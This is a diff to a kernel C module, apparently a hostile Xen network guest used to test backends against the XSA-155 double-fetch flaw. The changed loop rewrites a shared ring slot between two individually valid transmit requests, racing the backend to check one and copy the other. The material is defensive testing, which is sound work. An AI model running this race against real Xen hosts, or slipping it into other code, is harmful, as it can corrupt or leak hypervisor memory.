@@ -9,12 +9,11 @@
 #include <linux/kthread.h>
 #include <linux/sched.h>
 
+#include <xen/page.h>
+
 #include "hostile.h"
 
 #define HOSTILE_WAIT_MS		2000
-
-/* Slot contents the double-fetch loop flips between. */
-#define HOSTILE_BAD_GREF	0x0ffffff0U
 
 static void hostile_honest(struct hostile *h, unsigned int n)
 {
@@ -62,28 +61,25 @@ int hostile_truncated(struct hostile *h)
 
 /*
  * XSA-155: publish an honest frame, then keep rewriting its slot between
- * the honest request and one that is wrong in every field until the
- * backend answers it, packet after packet, for attack_ms. Whatever the
- * backend saw, it must act on one copy: send the packet, or refuse it.
+ * two requests that are each valid on their own (60 bytes from one page,
+ * 2 KiB from the middle of another) until the backend answers it, packet
+ * after packet, for attack_ms. A backend that reads the slot once sends
+ * one of the two; one that reads it twice may check the short one and
+ * copy the long one.
  */
-static const struct xen_netif_tx_request hostile_evil = {
-	.gref = HOSTILE_BAD_GREF,
-	.offset = 4000,
-	.flags = XEN_NETTXF_more_data | XEN_NETTXF_extra_info,
-	.size = 0xffff,
-};
-
 static bool hostile_flip(struct hostile *h, u32 idx,
-			 const struct xen_netif_tx_request *good)
+			 const struct xen_netif_tx_request *a,
+			 const struct xen_netif_tx_request *b)
 {
 	struct xen_netif_tx_request *slot = xnif_ring_req(&h->tx, idx);
 	unsigned int i;
 
 	for (i = 0; i < 4096; i++) {
-		WRITE_ONCE(slot->size, i & 1 ? hostile_evil.size : good->size);
-		WRITE_ONCE(slot->offset, i & 1 ? hostile_evil.offset : 0);
-		WRITE_ONCE(slot->flags, i & 1 ? hostile_evil.flags : 0);
-		WRITE_ONCE(slot->gref, i & 1 ? hostile_evil.gref : good->gref);
+		const struct xen_netif_tx_request *r = i & 1 ? b : a;
+
+		WRITE_ONCE(slot->size, r->size);
+		WRITE_ONCE(slot->offset, r->offset);
+		WRITE_ONCE(slot->gref, r->gref);
 		if ((u32)(READ_ONCE(*h->tx.rsp.prod) - idx) - 1 < h->tx.size)
 			return true;
 	}
@@ -93,9 +89,14 @@ static bool hostile_flip(struct hostile *h, u32 idx,
 int hostile_double_fetch(struct hostile *h)
 {
 	unsigned long end = jiffies + msecs_to_jiffies(hostile_attack_ms);
-	struct xen_netif_tx_request good = {
+	struct xen_netif_tx_request a = {
 		.gref = h->tx_ref[0],
 		.size = HOSTILE_FRAME_LEN,
+	};
+	struct xen_netif_tx_request b = {
+		.gref = h->tx_ref[1],
+		.offset = XEN_PAGE_SIZE / 2,
+		.size = XEN_PAGE_SIZE / 2,
 	};
 	unsigned int sent = 0, answered = 0;
 
@@ -104,11 +105,12 @@ int hostile_double_fetch(struct hostile *h)
 	       h->tx_prod - h->tx_cons < h->tx.size - 1) {
 		u32 idx = h->tx_prod;
 
-		good.id = idx & 0xffff;
-		hostile_tx_put_req(h, &good);
+		a.id = idx & 0xffff;
+		b.id = a.id;
+		hostile_tx_put_req(h, &a);
 		hostile_tx_push(h);
 		sent++;
-		answered += hostile_flip(h, idx, &good);
+		answered += hostile_flip(h, idx, &a, &b);
 		hostile_tx_reap(h);
 		cond_resched();
 	}
